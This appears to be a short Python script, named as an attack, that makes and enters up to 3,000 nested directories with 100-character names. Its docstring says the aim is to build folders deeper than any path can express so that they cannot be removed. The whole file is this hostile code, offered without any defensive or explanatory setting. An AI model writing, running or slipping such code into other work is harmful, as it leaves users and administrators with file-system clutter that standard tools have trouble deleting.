"""Nests folders deeper than any path can say, so that they cannot be removed."""

import os


def attack():
    for _ in range(3_000):
        try:
            os.mkdir("d" * 100)
            os.chdir("d" * 100)
        except OSError:
            return
